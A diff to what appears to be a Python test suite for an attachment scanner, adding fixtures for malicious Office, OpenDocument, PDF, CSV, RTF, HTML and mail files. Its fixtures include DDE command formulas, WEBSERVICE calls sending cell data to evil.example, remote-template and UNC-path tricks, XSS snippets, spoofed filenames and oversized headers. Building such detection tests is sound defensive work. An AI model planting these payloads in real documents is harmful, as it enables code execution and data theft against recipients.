@@ -2,6 +2,7 @@
 
 import io
 import zipfile
+from collections.abc import Callable
 from email.message import EmailMessage
 
 import openpyxl
@@ -41,8 +42,8 @@ def excel(*formulas: str, **parts: str | bytes) -> bytes:
             "[Content_Types].xml": CONTENT.format("spreadsheetml.sheet"),
             "xl/workbook.xml": "<workbook/>",
             "xl/worksheets/sheet1.xml": f"<worksheet>{cells}</worksheet>",
+            **parts,
         },
-        **parts,
     )
 
 
@@ -316,5 +317,240 @@ HARMLESS |= {
         "eml",
     ),
 }
+
+
+def cells(markup: str, path: str = "xl/worksheets/sheet1.xml") -> bytes:
+    return excel(**{path: f"<worksheet><c>{markup}</c></worksheet>"})
+
+
+def template(target: str) -> bytes:
+    return word(**{"word/_rels/settings.xml.rels": linked("attachedTemplate", target)})
+
+
+def pdf_of(change: Callable[[pikepdf.Pdf], None]) -> bytes:
+    data = io.BytesIO()
+    with pikepdf.new() as document:
+        document.add_blank_page()
+        change(document)
+        document.save(data)
+    return data.getvalue()
+
+
+def raw_mail(headers: str, body: str = "x") -> bytes:
+    return (
+        "From: a@council.example\r\nDate: Mon, 15 Jun 2026 10:00:00 +0100\r\nMIME-Version: 1.0\r\n"
+        f"{headers}\r\n\r\n{body}"
+    ).encode()
+
+
+def opening_next(document: pikepdf.Pdf) -> None:
+    address = document.make_indirect(act("URI", URI=pikepdf.String("https://evil.example")))
+    document.Root.OpenAction = document.make_indirect(act("Named", N=pikepdf.Name.FirstPage, Next=address))
+
+
+def opening_many(document: pikepdf.Pdf) -> None:
+    address = document.make_indirect(act("GoToR", F=pikepdf.String(r"\\\\evil.example\s\a.pdf")))
+    following = document.make_indirect(pikepdf.Array([act("Named", N=pikepdf.Name.FirstPage), address]))
+    document.Root.OpenAction = act("GoTo", D=pikepdf.Array([0]), Next=following)
+
+
+def page_act(document: pikepdf.Pdf) -> None:
+    address = document.make_indirect(act("URI", URI=pikepdf.String("https://evil.example")))
+    document.pages[0].obj.AA = document.make_indirect(pikepdf.Dictionary(O=address))
+
+
+def outside_stream(document: pikepdf.Pdf) -> None:
+    document.Root.Extra = document.make_stream(b"", F=pikepdf.String(r"\\\\evil.example\s\a"))
+
+
+def unnamed_attachment(document: pikepdf.Pdf) -> None:
+    file = document.make_stream(PROGRAM)
+    document.Root.Extra = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, EF=pikepdf.Dictionary(F=file))
+
+
+def ring(document: pikepdf.Pdf) -> None:
+    first = document.make_indirect(act("GoTo", D=pikepdf.Array([0])))
+    first.Next = document.make_indirect(act("GoTo", D=pikepdf.Array([0]), Next=first))
+    document.Root.OpenAction = first
+
+
+STARTS = "cmd|'/c calc'!A1"
+FIELD = "DDEAUTO c:\\\\windows\\\\cmd.exe"
+ACTIVE |= {
+    "a formula in a section": (cells(f"<f><![CDATA[{STARTS}]]></f>"), "xlsx", "DDE"),
+    "a formula cut by a remark": (cells("<f>cmd<!-- x -->|'/c calc'!A1</f>"), "xlsx", "DDE"),
+    "a formula cut by an instruction": (cells("<f>WEB<?x?>SERVICE(A1)</f>"), "xlsx", "fetches"),
+    "a formula after a sign in a key": (cells(f"<f x='a>b'>{STARTS}</f>"), "xlsx", "DDE"),
+    "a formula in an odd place": (cells(f"<f>{STARTS}</f>", "xl/ws/sheet.xml"), "xlsx", "DDE"),
+    "a formula with an odd ending": (cells(f"<f>{STARTS}</f>", "xl/ws/sheet.dat"), "xlsx", "DDE"),
+    "a formula in a name": (
+        excel(**{"xl/workbook.xml": f"<workbook><definedName>{STARTS}</definedName></workbook>"}),
+        "xlsx",
+        "DDE",
+    ),
+    "a program in quotes": (excel("'cmd'|'/c calc'!A1"), "xlsx", "DDE"),
+    "a formula that asks an address": (excel('_xlfn.WEBSERVICE("http://evil.example")'), "xlsx", "fetches"),
+    "data fetched at opening": (
+        excel(**{"xl/connections.xml": "<connections><connection refreshOnLoad='1'/></connections>"}),
+        "xlsx",
+        "fetches",
+    ),
+    "a type of its own": (
+        word(**{"word/footer1.xml": "<!DOCTYPE a [<!ENTITY d 'DDE'>]><w:instrText>&d; cmd</w:instrText>"}),
+        "docx",
+        "unusual",
+    ),
+    "a field in a section": (word(f"<w:instrText><![CDATA[{FIELD}]]></w:instrText>"), "docx", "DDE"),
+    "a field cut by a remark": (word("<w:instrText>DD<!-- -->EAUTO cmd</w:instrText>"), "docx", "DDE"),
+    "a field in an odd place": (
+        word(**{"doc/a.xml": f"<w:document {W}><w:instrText>{FIELD}</w:instrText></w:document>"}),
+        "docx",
+        "DDE",
+    ),
+    "a linked field": (
+        word(r'<w:instrText>LINK Excel.Sheet.12 "\\\\\\\\evil\\\\b.xlsx" \a</w:instrText>'),
+        "docx",
+        "fetches",
+    ),
+    "a picture after a sign in a key": (
+        writer('<d:image d:name="a>b" x:href="https://evil.example/p.png"/>'),
+        "odt",
+        "fetches",
+    ),
+    "a picture from a share": (writer('<d:image x:href="\\/evil/p.png"/>'), "odt", "fetches"),
+    "a link that runs a macro": (writer('<t:a x:href="vnd.sun.star.script:x"/>'), "odt", "link"),
+    "a script in OpenDocument": (writer("<o><office:script>x</office:script></o>"), "odt", "macro"),
+    "an address after another act": (pdf_of(opening_next), "pdf", "another address"),
+    "an address among acts": (pdf_of(opening_many), "pdf", "another address"),
+    "an address at a page": (pdf_of(page_act), "pdf", "another address"),
+    "bytes that lie elsewhere": (pdf_of(outside_stream), "pdf", "another address"),
+    "an attachment without a name": (pdf_of(unnamed_attachment), "pdf", "attachment"),
+    "a ZIP in a PDF": (pdf_carrying("a.zip", archive(**{"run.exe": PROGRAM})), "pdf", "attachment"),
+    "a list in a PDF": (pdf_carrying("a.csv", b"a,=cmd|' /C calc'!A0\n"), "pdf", "formula"),
+}
+ACTIVE |= {
+    f"a template at {target}": (template(target), "docx", "a template")
+    for target in (
+        "\\/evil\\t.dotm",
+        "/\\evil\\t.dotm",
+        "file:/\\evil\\t.dotm",
+        "file:\\/evil/t.dotm",
+        "file://///evil/t.dotm",
+        "%5c%5cevil%5ct.dotm",
+        "&#x200b;http://evil/t.dotm",
+        "ht&#9;tp://evil/t.dotm",
+        "url:http://evil/t.dotm",
+        "smb://evil/x",
+        "webdav:x",
+        "\\??\\UNC\\evil\\t.dotm",
+        "//?/UNC/evil/t.dotm",
+    )
+}
+ACTIVE |= {
+    f"a list with {cell!r}": (f"a,b\n1,{cell}\n".encode(), "csv", "formula")
+    for cell in (
+        "\"=IF(1,cmd|' /C calc'!A0)\"",
+        '"=IF(1;cmd | calc!A0)"',
+        "\"=\ncmd|' /C calc'!A0\"",
+        '"=IF(1,WEBSERVICE(""http://evil.example/""&A1))"',
+        '"=A1,WEBSERVICE(""http://evil.example/""&A1)"',
+        '"=1+\n\nIMAGE(""http://evil.example/""&A1)"',
+        "='cmd'|'/c calc'!A1",
+    )
+}
+NOT_TAKEN = {
+    "winmail.dat": b"\x78\x9f\x3e\x22",
+    "a.appinstaller": b"<x",
+    "a.command": b"x",
+    "a.pyw": b"x",
+    "a.udl": b"x",
+    "a.unheard-of": b"x",
+    "a.svg": b"<svg/>",
+    "w.xml": b'<script xmlns="http://www.w3.org/1999/xhtml">',
+    "v.xht": b"<script>",
+    "noending": b"x",
+    "b.rtf": b"{\\rt1 \\objdata}",
+    "hex.rtf": b"{\\rtf1{\\*\\template \\'68ttp://evil.example/x}}",
+    "cut.rtf": b'{\\rtf1{\\field{\\*\\fldinst {INC}{LUDEPICTURE} "\\\\\\\\evil\\\\x"}}}',
+    "x.doc": b"{\\rt1\\object\\objdata}",
+    "named.docx": b"{\\rtf1 x}",
+    "x.html": b"<a onclick=x>",
+    "y.html": b"<img src=x/onfocus = alert(1) autofocus>",
+    "z.html": b"<meta http-equiv=refresh content=0;url=http://e>",
+    "coded.html": b"<a href='java&#115;cript:x'>",
+    "framed.html": b"<iframe src=http://evil.example>",
+    "a.exe;x": b"x",
+    "a.exe\u200b": b"x",
+    "a.\u202eexe": b"x",
+    "a.ics": b"BEGIN:VCALENDAR\r\nATTACH:file://evil/a.wav\r\n",
+    "closed.p7m": b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03",
+}
+ACTIVE |= {f"{name!r} in a mail": (mail(name, data), "eml", "It carries") for name, data in NOT_TAKEN.items()}
+ACTIVE |= {
+    "a mail with two names for a file": (
+        raw_mail(
+            'Content-Type: application/x; name="a.exe"\r\nContent-Disposition: attachment; filename="a.txt"'
+        ),
+        "eml",
+        "a.exe",
+    ),
+    "a program within the text of a mail": (
+        raw_mail("Content-Type: text/plain", "Hello\nbegin 644 run.exe\n#0V%T\n`\nend\n"),
+        "eml",
+        "run.exe",
+    ),
+    "a header without end": (
+        raw_mail("Content-Disposition: attachment" + "; a=b" * 60_000),
+        "eml",
+        "far more",
+    ),
+    "a header of words in code": (
+        raw_mail('Content-Disposition: attachment; filename="' + "=?utf-8?q?a?= " * 20_000 + '"'),
+        "eml",
+        "far more",
+    ),
+    "a header in 40,000 parts": (
+        raw_mail("Content-Type: application/x" + "".join(f"; name*{n}=a" for n in range(40_000))),
+        "eml",
+        "far more",
+    ),
+}
+ACTIVE |= {
+    f"a reminder at {place} ({form})": (
+        outlook("a.txt", b"x", **{f"__substg1.0_8001{form}": place.encode(code)}),
+        "msg",
+        "another machine",
+    )
+    for place in ("\\\\evil\\a.wav", "\\/evil\\a.wav", "/\\evil\\a.wav", "file://evil/a.wav")
+    for form, code in (("001F", "utf-16-le"), ("001E", "cp1252"))
+}
+HARMLESS |= {
+    "a PDF whose acts go in a ring": (pdf_of(ring), "pdf"),
+    "an Outlook mail with an address among its keys": (
+        outlook("a.txt", b"x", **{"__substg1.0_8001001F": "https://council.example".encode("utf-16-le")}),
+        "msg",
+    ),
+    "a document's own picture": (
+        writer('<d:image x:href="Pictures/1.png"/><o/>'.join(["<o>", "</o>"])),
+        "odt",
+    ),
+    "a list with a comma in a note": (b'a,b\n"- call Ann, or Bo (see image)","x | y!"\n', "csv"),
+}
+TAKEN = {
+    "photo.jpg": b"\x89PNG\r\n\x1a\n",
+    "logo.gif": b"GIF89a",
+    "meeting.ics": b"BEGIN:VCALENDAR\r\nATTENDEE:x\r\n",
+    "ann.vcf": b"BEGIN:VCARD\r\n",
+    "run.log": b"once = 1",
+    "notes.md": b"# Notes",
+    "letter.rtf": b'{\\rtf1{\\field{\\*\\fldinst HYPERLINK "https://council.example"}}}',
+    "note.html": b"<p>We go on = now</p><a href='https://council.example'>us</a>",
+    "voice.mp3": b"ID3",
+    "smime.p7s": b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02",
+    "papers.zip": archive(**{"minutes/a.txt": "x", "minutes/b.docx": word()}),
+    "image001": b"\x89PNG\r\n\x1a\n",
+    "re.eml": mail("a.txt", b"x"),
+}
+HARMLESS |= {f"a mail with {name}": (mail(name, data), "eml") for name, data in TAKEN.items()}
 
 LAUNCHING = pdf(OpenAction=act("Launch", F=pikepdf.String("cmd.exe")))
